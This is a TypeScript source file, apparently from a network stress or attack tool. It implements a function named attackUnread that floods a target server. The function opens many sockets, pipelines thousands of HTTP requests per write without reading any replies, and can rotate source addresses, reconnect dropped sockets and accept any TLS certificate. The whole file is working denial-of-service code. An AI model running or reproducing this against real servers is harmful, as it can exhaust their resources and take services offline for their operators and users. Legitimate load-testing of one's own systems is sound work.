/** Clients that send requests without end and read nothing. */
import { connect, type Socket } from "node:net";
import { setTimeout as pause } from "node:timers/promises";
import { connect as connectByTls } from "node:tls";
import { addressOfNetwork } from "./ask.ts";

export interface UnreadOptions {
  readonly sockets: number;
  readonly path: string;
  /** Milliseconds. */
  readonly duration: number;
  /** Whether each sends many requests, or only one. */
  readonly pipelined: boolean;
  /** Whether a closed client reconnects. */
  readonly comesAgain?: boolean;
  readonly networks?: number;
}

export interface UnreadResult {
  /** The number of opened connections. */
  readonly connections: number;
  readonly bytesSent: number;
  /** The number of connections still open at the end. */
  readonly open: number;
}

const REQUESTS_PER_WRITE = 2000;

/** Opens the sockets and writes as long as the server accepts it, reading nothing. Accepts any certificate. */
export async function attackUnread(
  origin: string,
  { sockets, path, duration, pipelined, comesAgain = false, networks = 1 }: UnreadOptions,
): Promise<UnreadResult> {
  const { hostname, port, host, protocol } = new URL(origin);
  const isTls = protocol === "https:";
  const request = `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
  const bytes = Buffer.from(request.repeat(pipelined ? REQUESTS_PER_WRITE : 1));
  const open = new Set<Socket>();
  let connections = 0;
  let bytesSent = 0;
  let stopped = false;

  function begin(number: number): void {
    if (stopped) return;
    const localAddress = addressOfNetwork(number, networks);
    const target = { port: Number(port), host: hostname, ...(localAddress && { localAddress }) };
    const socket = isTls ? connectByTls({ ...target, rejectUnauthorized: false }) : connect(target);
    socket.pause();
    connections += 1;
    open.add(socket);
    const write = () => {
      while (!stopped && socket.writable) {
        const goesOn = socket.write(bytes);
        if (!pipelined || !goesOn) return;
      }
    };
    socket.on(isTls ? "secureConnect" : "connect", write);
    if (pipelined) socket.on("drain", write);
    socket
      .on("error", () => undefined)
      .on("close", () => {
        open.delete(socket);
        bytesSent += socket.bytesWritten;
        if (comesAgain) setTimeout(begin, 10, number);
      });
  }

  for (let number = 0; number < sockets; number += 1) begin(number);
  await pause(duration);
  stopped = true;
  const left = open.size;
  for (const socket of open) socket.destroy();
  while (open.size > 0) await pause(10);
  return { connections, bytesSent, open: left };
}
